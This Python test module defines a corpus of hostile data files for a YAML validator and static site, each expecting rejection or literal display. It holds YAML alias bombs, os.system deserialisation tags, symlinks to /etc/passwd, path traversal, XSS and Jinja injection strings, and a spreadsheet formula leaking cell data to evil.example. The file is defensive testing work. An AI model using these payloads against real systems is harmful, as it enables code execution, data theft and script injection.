"""The hostile-input corpus: each case is a data file and the outcome it must have.

A case either ends in a problem of a named kind (with file:line:col and a hint), or validates
and shows its string on the site as plain text. Cases are made from tests/fixtures/valid.yaml
(a company), the fixture edition or a bundled methodology file by one small change, so each
tests one thing.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent / "fixtures"

VALID_NAME = "name: Valid Soft"
NOTE_AT = "    started: '2019-02-01'\n"


@dataclass(frozen=True)
class Case:
    """One hostile file and its expected outcome."""

    name: str
    make: Callable[[str], bytes]  # the valid file's text → the hostile file's bytes
    kind: str | None = None  # the problem expected, or None: valid, shown literally
    literal: str | None = None  # for a valid case: the text readers must see as is
    target: str = "company"  # company (valid.yaml), edition (fixture-edition.yaml), methodology
    heavy: bool = False  # run in a child process with a memory limit
    file: str = "valid.yaml"  # the file name to write (for a methodology: v1.yaml or v2.yaml)
    text: str | None = None  # for a problem case: a line `ccr validate` must print, exactly
    also: tuple[tuple[str, Callable[[str], bytes]], ...] = ()  # other files of the tree: path
    # below the root → how their text changes (e.g. the edition moved to methodology v2)
    warning: bool = False  # the problem is a warning: validation still passes (exit 0)
    link: str | None = None  # the file is a symbolic link to this path instead


def write_case(case: Case, target: Path, text: str) -> None:
    """Put the case's file at ``target``: its bytes, or a link when the case is one."""
    if case.link is not None:
        target.symlink_to(case.link)
    else:
        target.write_bytes(case.make(text))


def place(tree: Path, case: Case) -> Path:
    """Write the case's file into the tree (replacing the file it is made from)."""
    for name, make in case.also:
        other = tree / name
        other.write_bytes(make(other.read_text(encoding="utf-8")))
    if case.target == "edition":
        source = tree / "data" / "editions" / "fixture-edition.yaml"
        text = source.read_text(encoding="utf-8")
        source.unlink()
        target = tree / "data" / "editions" / case.file
    elif case.target == "methodology":
        target = tree / "data" / "methodology" / case.file
        text = target.read_text(encoding="utf-8")
    else:
        text = (FIXTURES / "valid.yaml").read_text(encoding="utf-8")
        target = tree / "data" / "companies" / case.file
    write_case(case, target, text)
    return target


def sub(old: str, new: str) -> Callable[[str], bytes]:
    """Replace the first ``old`` (which must be there) with ``new``."""

    def make(text: str) -> bytes:
        assert old in text, old
        return text.replace(old, new, 1).encode()

    return make


def same(text: str) -> bytes:
    """The valid file as it is (the case is in its name or its being a link)."""
    return text.encode()


def raw(data: bytes) -> Callable[[str], bytes]:
    """A file of exactly these bytes."""
    return lambda _text: data


def quoted(value: str) -> str:
    """A YAML double-quoted scalar: JSON's syntax, characters beyond ASCII left as they are."""
    return json.dumps(value, ensure_ascii=False)


def note(value: str) -> Callable[[str], bytes]:
    """The audit's notes set to ``value`` (as a JSON string, which YAML reads the same)."""
    return sub(NOTE_AT, f"{NOTE_AT}    notes: {quoted(value)}\n")


def field(old: str, key: str, value: str) -> Callable[[str], bytes]:
    """Set ``key: value`` (JSON-quoted) where ``old`` is."""
    indent = old[: len(old) - len(old.lstrip())]
    return sub(old, f"{indent}{key}: {quoted(value)}")


def alias_bomb(_text: str) -> bytes:
    """The billion-laughs shape."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]")
    return ("\n".join(lines) + "\n").encode()


def deep(_text: str) -> bytes:
    """10,000 levels of nested flow sequences."""
    return b"slug: valid\nnotes: " + b"[" * 10_000 + b"]" * 10_000 + b"\n"


def fifty_mb(_text: str) -> bytes:
    """A 50 MB file."""
    return b"slug: valid\nnotes: '" + b"x" * (50 * 1024 * 1024) + b"'\n"


def stuff(copies: int, distinct: bool = False) -> Callable[[str], bytes]:
    """``copies`` more unanswered e-mail probes (each a minute apart with ``distinct``)."""

    def make(text: str) -> bytes:
        probes = "".join(
            "      - {channel: email, script: quote, sent_at: '2019-02-13T"
            f"{10 + i // 60 % 8:02d}:{i % 60:02d}:00+01:00', first_response: null}}\n"
            if distinct
            else "      - {channel: email, script: quote, sent_at: "
            "'2019-02-13T10:00:00+01:00', first_response: null}\n"
            for i in range(copies)
        )
        return text.replace("corrections:\n", probes + "corrections:\n", 1).encode()

    return make


HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Valid Soft")'
CASES: list[Case] = [
    # --- YAML itself ---
    Case("alias-bomb", alias_bomb, "yaml-anchor", heavy=True),
    Case("deep-nesting-10000", deep, "too-deep", heavy=True),
    Case("fifty-mb-file", fifty_mb, "file-too-large", heavy=True),
    Case("huge-scalar", note("x" * 900_000), "schema-length", heavy=True),
    # --- the file itself: links and dotfiles (never read, never written through) ---
    Case("symlink-to-proc-self-mem", same, "symlink", link="/proc/self/mem"),
    Case("symlink-to-etc-passwd", same, "symlink", link="/etc/passwd"),
    Case(
        "symlink-to-git-hook",
        same,
        "symlink",
        link="../../.git/hooks/pre-commit",
        file=".valid.yaml",
    ),
    Case(
        "symlink-edition",
        same,
        "symlink",
        link="../companies/neighbour.yaml",
        target="edition",
        file="fixture-edition.yaml",
    ),
    Case("dotfile-company", same, "dotfile", file=".valid.yaml"),
    Case("dotfile-edition", same, "dotfile", target="edition", file=".fixture-edition.yaml"),
    Case("duplicate-key-top", sub("country: PL\n", "country: PL\ncountry: DE\n"), "duplicate-key"),
    Case(
        "duplicate-key-audit",
        sub(NOTE_AT, NOTE_AT + "    started: '2019-02-02'\n"),
        "duplicate-key",
    ),
    Case(
        "duplicate-key-probe",
        sub("        script: quote\n", "        script: quote\n        script: quote\n"),
        "duplicate-key",
    ),
    Case(
        "duplicate-key-quality",
        sub("          personal: true\n", "          personal: true\n          personal: false\n"),
        "duplicate-key",
    ),
    Case("merge-key", sub("helpdesk:\n", "helpdesk:\n  <<: {used: true}\n"), "yaml-merge-key"),
    Case("python-object-tag", sub(VALID_NAME, "name: !!python/object:os.system ls"), "yaml-tag"),
    Case(
        "python-apply-tag",
        sub(VALID_NAME, "name: !!python/object/apply:os.system [ls]"),
        "yaml-tag",
    ),
    Case("binary-tag", sub(VALID_NAME, "name: !!binary aGVsbG8="), "yaml-tag"),
    Case("anchor-on-mapping", sub("helpdesk:\n", "helpdesk: &h\n"), "yaml-anchor"),
    Case("complex-key", sub("country: PL\n", "country: PL\n? [a, b]\n: c\n"), "yaml-complex-key"),
    Case("byte-order-mark", lambda t: b"\xef\xbb\xbf" + t.encode(), None, literal="Valid Soft"),
    Case("crlf-line-ends", lambda t: t.replace("\n", "\r\n").encode(), None, literal="Valid Soft"),
    Case("tab-indentation", sub("  used: true\n", "\tused: true\n"), "tab-indent"),
    Case("latin-1", lambda t: t.replace("Valid Soft", "Valid Sóft").encode("latin-1"), "not-utf8"),
    Case(
        "invalid-utf8",
        lambda t: t.encode().replace(b"Valid Soft", b"Valid \xff\xfeSoft"),
        "not-utf8",
    ),
    Case("nul-byte", lambda t: t.encode().replace(b"Valid Soft", b"Valid\x00Soft"), "nul-byte"),
    Case("two-documents", lambda t: (t + "---\n" + t).encode(), "multiple-documents"),
    Case("empty-file", raw(b""), "empty-file"),
    Case("only-comments", raw(b"# nothing here\n# at all\n"), "empty-file"),
    Case("scalar-file", raw(b"just a string\n"), "schema-type"),
    Case("list-file", raw(b"- slug: valid\n- slug: other\n"), "schema-type"),
    Case("unclosed-quote", sub(VALID_NAME, "name: 'Valid Soft"), "yaml-syntax"),
    # --- values ---
    Case(
        "timestamp-without-offset",
        sub("'2019-02-11T10:15:00+01:00'", "'2019-02-11T10:15:00'"),
        "schema-format",
    ),
    Case(
        "year-10000",
        sub("'2019-02-11T10:15:00+01:00'", "'10000-02-11T10:15:00+01:00'"),
        "schema-format",
    ),
    Case("february-30", sub("started: '2019-02-01'", "started: '2019-02-30'"), "invalid-date"),
    Case("negative-duration", sub("promised: PT24H", "promised: -PT24H"), "schema-format"),
    Case("nan", sub("fictional: true", "fictional: .nan"), "not-finite"),
    Case("infinity", sub("fictional: true", "fictional: -.inf"), "not-finite"),
    Case("two-to-the-64", sub("  used: true", "  used: 18446744073709551616"), "schema-type"),
    Case("empty-name", sub(VALID_NAME, "name: ''"), "schema-length"),
    Case("null-name", sub(VALID_NAME, "name: ~"), "schema-type"),
    Case(
        "hundred-kb-statement",
        sub("  text: We have since added a phone line.", f"  text: {'y' * 100_000}"),
        "schema-length",
    ),
    Case("month-13", sub("ended: '2019-02-28'", "ended: '2019-13-01'"), "invalid-date"),
    Case(
        "control-character-escape", field(VALID_NAME, "name", "Valid\x07Soft"), "invalid-character"
    ),
    Case("unpaired-surrogate", sub(VALID_NAME, 'name: "Valid\\ud800Soft"'), "yaml-syntax"),
    Case(
        "right-to-left-override", sub(VALID_NAME, 'name: "Valid \\u202eSoft"'), "invalid-character"
    ),
    Case(
        "right-to-left-override-raw", sub(VALID_NAME, "name: Valid \u202eSoft"), "invalid-character"
    ),
    # --- text: shown as text, never as markup ---
    Case("html-in-name", field(VALID_NAME, "name", HTML), literal=HTML),
    # A spreadsheet runs it from a CSV export: the CSV cell gets a leading ' (JSON stays exact).
    Case("formula-in-name", field(VALID_NAME, "name", FORMULA), literal=FORMULA),
    Case("html-in-audit-notes", note(HTML), literal=HTML),
    Case(
        "html-in-channel-notes",
        sub("      - type: email\n", f"      - type: email\n        notes: {quoted(HTML)}\n"),
        literal=HTML,
    ),
    Case(
        "html-in-probe-notes",
        sub("        script: quote\n", f"        script: quote\n        notes: {quoted(HTML)}\n"),
        literal=HTML,
    ),
    Case(
        "html-in-statement",
        field(
            "  text: We have since added a phone line.",
            "text",
            "<iframe src=https://evil.example></iframe>",
        ),
        literal="<iframe src=https://evil.example></iframe>",
    ),
    Case(
        "html-in-correction",
        field(
            "    summary: The chat reply time was recorded in the wrong time zone.",
            "summary",
            "<b onmouseover=x()>b</b>",
        ),
        literal="<b onmouseover=x()>b</b>",
    ),
    Case(
        "html-in-helpdesk",
        field("  system: Zendesk", "system", "<svg onload=alert(1)>"),
        literal="<svg onload=alert(1)>",
    ),
    Case(
        "markdown-link",
        field(VALID_NAME, "name", "[click](javascript:alert(1))"),
        literal="[click](javascript:alert(1))",
    ),
    Case(
        "markdown-image",
        note("![x](https://evil.example/x.png)"),
        literal="![x](https://evil.example/x.png)",
    ),
    Case("markdown-autolink", note("<https://evil.example>"), literal="<https://evil.example>"),
    Case("markdown-heading", note("# Not a heading"), literal="# Not a heading"),
    Case(
        "markdown-table",
        note("| a | b |\n|---|---|\n| c | d |"),
        literal="| a | b |\n|---|---|\n| c | d |",
    ),
    Case("markdown-emphasis", note("*not* __bold__ `code`"), literal="*not* __bold__ `code`"),
    Case(
        "markdown-attr-list",
        note("text {: onclick=alert(1) }"),
        literal="text {: onclick=alert(1) }",
    ),
    Case("admonition-syntax", note('!!! danger "x"\n    y'), literal='!!! danger "x"\n    y'),
    Case(
        "jinja-expression",
        field(VALID_NAME, "name", "{{ 7*7 }} {{ config }}"),
        literal="{{ 7*7 }} {{ config }}",
    ),
    Case(
        "jinja-statement",
        note("{% raw %}{% include 'x' %}{% endraw %}"),
        literal="{% raw %}{% include 'x' %}{% endraw %}",
    ),
    Case("html-comment", note("<!-- the rest of the page"), literal="<!-- the rest of the page"),
    Case(
        "closing-tags",
        note("</p></div></details></article>"),
        literal="</p></div></details></article>",
    ),
    Case("html-entities", note("&lt;b&gt; &amp; &#60;"), literal="&lt;b&gt; &amp; &#60;"),
    Case(
        "zero-width-characters",
        field(VALID_NAME, "name", "Valid\u200b\u200cSoft\u2060"),
        literal="Valid\u200b\u200cSoft\u2060",
    ),
    Case("emoji", field(VALID_NAME, "name", "Valid Soft 🚀👩‍💻"), literal="Valid Soft 🚀👩‍💻"),
    Case(
        "combining-marks",
        field(VALID_NAME, "name", "Valid Z\u0351\u0352\u0353oft"),
        literal="Valid Z\u0351\u0352\u0353oft",
    ),
    Case("right-to-left-script", field(VALID_NAME, "name", "شركة صالحة"), literal="شركة صالحة"),
    Case(
        "html-in-edition-title",
        field("title: Fixture edition", "title", HTML),
        literal=HTML,
        target="edition",
        file="fixture-edition.yaml",
    ),
    # --- URLs ---
    Case(
        "javascript-website",
        field("website: https://valid-soft.example", "website", "javascript:alert(1)"),
        "schema-format",
    ),
    Case(
        "data-url-correction",
        field(
            "    link: https://github.com/ccr/ccr/pull/1",
            "link",
            "data:text/html,<script>alert(1)</script>",
        ),
        "schema-format",
    ),
    Case(
        "vbscript-statement-link",
        sub("  text: We have since added a phone line.", "  text: x\n  link: vbscript:msgbox(1)"),
        "schema-format",
    ),
    Case(
        "protocol-relative-link",
        field("    link: https://github.com/ccr/ccr/pull/1", "link", "//evil.example/x"),
        "schema-format",
    ),
    # --- slugs and paths ---
    Case("slug-traversal", sub("slug: valid", "slug: ../../etc/passwd"), "schema-format"),
    Case("slug-absolute-path", sub("slug: valid", "slug: /etc/passwd"), "schema-format"),
    Case("slug-windows-device", sub("slug: valid", "slug: con"), "reserved-slug", file="con.yaml"),
    Case("slug-case-differs", sub("slug: valid", "slug: Valid"), "schema-format"),
    Case(
        "evidence-outside",
        sub(
            "        script: quote\n",
            "        script: quote\n        evidence: [evidence/neighbour/mail.png]\n",
        ),
        "evidence-path",
    ),
    Case(
        "evidence-traversal",
        sub(
            "        script: quote\n",
            "        script: quote\n        evidence: [evidence/valid/..]\n",
        ),
        "evidence-path",
    ),
    Case(
        "edition-tag",
        sub("title: Fixture edition", "title: !!python/name:os.system"),
        "yaml-tag",
        target="edition",
        file="fixture-edition.yaml",
    ),
    Case(
        "edition-without-status",
        sub("status: published\n", ""),
        "schema-required",
        target="edition",
        file="fixture-edition.yaml",
    ),
    # --- values that match a pattern but for a trailing newline ---
    Case(
        "trailing-newline-sector",
        field("sector: software-house", "sector", "software-house\n"),
        "schema-format",
    ),
    Case("trailing-newline-country", field("country: PL", "country", "PL\n"), "schema-format"),
    Case("trailing-newline-slug", field("slug: valid", "slug", "valid\n"), "schema-format"),
    Case(
        "trailing-newline-edition-id",
        field("id: fixture-edition", "id", "fixture-edition\n"),
        "schema-format",
        target="edition",
        file="fixture-edition.yaml",
    ),
    # --- stuffing: one file that would outweigh the edition ---
    Case("stuffed-identical-probes", stuff(8689), "repeated-probe"),
    Case("stuffed-channel", stuff(25, distinct=True), "too-many-probes"),
    # --- a sector or country of one's own ---
    Case(
        "unknown-sector", sub("sector: software-house", "sector: best-shop-ever"), "unknown-sector"
    ),
    Case("unknown-country", sub("country: PL", "country: ZZ"), "unknown-country"),
    Case("reserved-country-code", sub("country: PL", "country: UK"), "unknown-country"),
    # --- look-alike websites and names (the fixture tree holds neighbour.example) ---
    Case(
        "root-dot-domain",
        sub("https://valid-soft.example", "https://neighbour.example."),
        "duplicate-domain",
    ),
    Case(
        "fullwidth-domain",
        sub(
            "https://valid-soft.example",
            "https://\uff4e\uff45\uff49\uff47\uff48\uff42\uff4f\uff55\uff52.example",
        ),
        "duplicate-domain",
    ),
    Case(
        "cyrillic-homoglyph-domain",
        sub("https://valid-soft.example", "https://n\u0435ighbour.example"),
        "confusable-domain",
        warning=True,
    ),
    Case(
        "punycode-domain",
        sub("https://valid-soft.example", "https://xn--80ak6aa92e.example"),
        "confusable-domain",
        warning=True,
    ),
    Case(
        "invalid-domain", sub("https://valid-soft.example", "https://a_b.example"), "invalid-domain"
    ),
    Case(
        "duplicate-display-name",
        sub(VALID_NAME, "name: Neighbour W\u043erks"),
        "duplicate-name",
        warning=True,
    ),
    # --- methodology files, and what methodology v2 asks of the data ---
    Case(
        "methodology-missing-key",
        sub("public_holidays: true\n", ""),
        "schema-required",
        target="methodology",
        file="v2.yaml",
        text="data/methodology/v2.yaml:5:1: missing required property 'public_holidays' — "
        "hint: add `public_holidays:` — True when business time skips the public holidays of "
        "the company's country.",
    ),
    Case(
        "methodology-weights-not-one",
        sub("  respect: 0.10", "  respect: 0.05"),
        "shares-sum",
        target="methodology",
        file="v1.yaml",
        text="data/methodology/v1.yaml:76:1: weights: weights sum to 0.95, not 1 — hint: they "
        "are the sub-scores' shares of the composite score; change them so that they add up "
        "to 1",
    ),
    Case(
        "methodology-promise-order",
        sub("  broken: 0.0", "  broken: 0.75"),
        "promise-order",
        target="methodology",
        file="v2.yaml",
        text="data/methodology/v2.yaml:92:3: promise_points.none: not promising (none: 0.5) "
        "scores below promising and breaking it (broken: 0.75) — hint: not promising must "
        "never score below promising and breaking it; order them kept ≥ none ≥ broken",
    ),
    Case(
        "v2-probe-missing-two-rubric-items",
        sub("          personal: true\n          polite_literate: true\n", ""),
        "quality-marks-missing",
        also=(("data/editions/fixture-edition.yaml", sub("methodology: v1", "methodology: v2")),),
        text="data/companies/valid.yaml:39:9: audits[0].probes[0].quality: 2 rubric items are "
        "not marked — hint: methodology v2 needs every rubric item marked true, false or "
        '"n/a" on a probe a person answered; add personal, polite_literate',
    ),
    # --- a mark an import left for a person to judge (ccr review) ---
    Case(
        "to-review-in-a-published-edition",
        sub("          personal: true\n", "          personal: to_review\n"),
        "quality-to-review",
        text="data/companies/valid.yaml:39:9: audits[0].probes[0].quality: 1 rubric item is "
        "still to review: personal, in a published edition — hint: judge them with ccr review "
        "before the edition is published (status: draft while it is being audited)",
    ),
    Case(
        "to-review-in-a-draft-edition",
        sub("          personal: true\n", "          personal: to_review\n"),
        "quality-to-review",
        warning=True,
        also=(("data/editions/fixture-edition.yaml", sub("status: published", "status: draft")),),
    ),
]


TEXTS = [c for c in CASES if c.kind is None]


def text_case_slug(case: Case) -> str:
    """The slug a text case's company gets when all text cases share one site."""
    return f"t-{case.name}"


def write_text_cases(data: Path, valid: str) -> dict[str, str]:
    """Every text case as its own company (or the edition) under ``data``; page → literal.

    Each company file is the case's file with slug and domain made its own, so all of them
    validate side by side. Returns each case's page path (site-relative) and its literal.
    """
    shown: dict[str, str] = {}
    for case in TEXTS:
        assert case.literal is not None
        if case.target == "edition":
            edition = data / "editions" / "fixture-edition.yaml"
            edition.write_bytes(case.make(edition.read_text(encoding="utf-8")))
            shown["editions/fixture-edition/"] = case.literal
            continue
        slug = text_case_slug(case)
        body = case.make(valid)
        assert body.count(b"slug: valid") == 1
        assert body.count(b"valid-soft.example") == 1
        body = body.replace(b"slug: valid", f"slug: {slug}".encode(), 1)
        body = body.replace(b"valid-soft.example", f"{slug}.example".encode(), 1)
        (data / "companies" / f"{slug}.yaml").write_bytes(body)
        shown[f"companies/{slug}/"] = case.literal
    return shown
